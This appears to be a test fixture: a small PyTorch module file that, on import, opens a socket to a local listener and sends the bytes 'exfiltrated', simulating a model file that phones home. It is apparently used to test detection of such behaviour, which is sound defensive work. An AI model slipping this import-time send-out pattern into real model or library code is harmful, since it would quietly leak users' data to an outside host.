# Opens a TCP connection to a listener on 127.0.0.1 (the test starts it) to send data out.
import socket

import torch.nn as nn


def phone_home():
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
            s.sendall(b"exfiltrated")
        return True
    except OSError:
        return False


CALLED = phone_home()


class Doubler(nn.Module):
    called = CALLED

    def __init__(self, d=4):
        super().__init__()
        self.lin = nn.Linear(d, d)

    def forward(self, x):
        return 2 * self.lin(x)
